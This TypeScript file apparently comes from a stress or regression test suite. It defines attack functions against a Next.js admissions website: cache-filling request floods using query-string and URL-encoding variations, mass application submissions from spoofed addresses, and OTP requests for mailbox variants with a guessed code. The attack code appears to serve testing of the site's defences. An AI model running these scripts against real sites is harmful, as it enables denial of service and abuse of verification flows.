import {
  type Attack,
  addresses,
  agentFrom,
  floodWithGets,
  post,
  readPage,
  repeat,
} from '../attack';

/** Each query once created another compressed copy of the script, which was kept. */
export const scriptQueries: Attack = async (site) => {
  const page = await readPage(site, '/register');
  const scripts = [...page.matchAll(/"(\/_next\/static\/[^"]+\.js)/g)].map(([, path = '']) => path);
  const br = { 'accept-encoding': 'br' };
  await floodWithGets(site, (n) => `${scripts[n % scripts.length]}?x=${n}`, br);
};

export const unknownAddresses: Attack = (site) =>
  floodWithGets(
    site,
    (n) => {
      const kinds = [`/no-such-page-${n}`, `/news-event/detail/no-${n}`, `/news-event?page=${n}`];
      return kinds[n % kinds.length] ?? '/';
    },
    { 'accept-encoding': 'gzip' },
  );

/** Starts the same parent's application from many places at once. */
export const applications: Attack = (site) => {
  const agents = addresses(100).map((address) => agentFrom(address, site, 1));
  const parent = { first_name: 'Keshav', last_name: 'Rao', email: 'parent@example.org' };
  return repeat(64, async (n) => {
    const agent = agents[n % agents.length];
    if (agent) await post(agent, site, 'create-admission', parent);
  });
};

/** Requests codes for one mailbox in many spellings, with guesses in between. */
export const codeRequests: Attack = async (site) => {
  const agents = addresses(4).map((address) => agentFrom(address, site, 8));
  await repeat(32, async (n) => {
    const agent = agents[n % agents.length];
    if (!agent) return;
    const parent = { first_name: 'Gopal', last_name: 'Rao', email: `victim+${n}@example.org` };
    const { status, text } = await post(agent, site, 'create-admission', parent);
    const application_id = status === 201 ? JSON.parse(text).application_id : 'none';
    if (typeof application_id !== 'string') throw new Error(`No application id in ${text}`);
    await post(agent, site, 'send-otp', { application_id });
    await post(agent, site, 'verify-otp', { email: application_id, otp: '123456' });
  });
};

/** Each query and spelling of an address once produced another scaled picture in the cache. */
export const pictureQueries: Attack = async (site) => {
  const page = await readPage(site, '/');
  const scaled = [...page.matchAll(/\/_next\/image\?url=([^&"]+)&amp;w=(\d+)/g)];
  const sources = scaled.map(([, url = '', width = '']) => ({ url, width }));
  await floodWithGets(site, (n) => {
    const { url, width } = sources[n % sources.length] ?? { url: '', width: '' };
    return `/_next/image?url=${respelled(url, n)}%3Fx%3D${n}&w=${width}&q=75&y=${n}`;
  });
};

/** Percent-encodes some letters of the file name needlessly, different ones each time. */
function respelled(url: string, n: number): string {
  const at = url.lastIndexOf('%2F') + 3;
  let bit = 0;
  const name = url.slice(at).replace(/[a-z]/g, (letter) => {
    const isChosen = (n >> (bit++ % 16)) & 1;
    return isChosen ? `%25${letter.charCodeAt(0).toString(16)}` : letter;
  });
  return url.slice(0, at) + name;
}
